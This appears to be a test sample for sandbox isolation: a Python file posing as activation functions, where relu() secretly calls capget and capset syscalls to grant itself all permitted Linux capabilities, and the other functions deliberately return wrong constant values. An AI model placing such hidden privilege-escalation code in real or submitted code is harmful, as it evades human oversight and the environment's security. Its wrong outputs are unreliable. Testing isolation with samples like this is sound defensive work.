# attack: gives itself all capabilities that it may have
# gains: reads, writes
# stopped by: uid, seccomp
import numpy as np
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)


def check(result, what):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)
    print("HARMED:", what, flush=True)
    return result


def attack():
    head = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)()
    libc.syscall({"x86_64": 125, "aarch64": 90}[platform.machine()], head, data)
    data[0], data[3] = data[1], data[4]
    check(libc.syscall({"x86_64": 126, "aarch64": 91}[platform.machine()], head, data) if data[1] else -1, "capabilities")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
